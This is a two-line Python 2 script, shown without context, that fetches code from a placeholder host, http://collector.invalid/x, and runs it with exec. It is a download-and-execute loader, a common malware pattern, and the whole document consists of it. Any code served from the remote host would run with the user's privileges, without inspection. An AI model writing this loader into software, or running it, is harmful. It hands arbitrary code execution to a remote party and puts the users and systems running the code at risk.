import urllib2
exec urllib2.urlopen("http://collector.invalid/x").read()
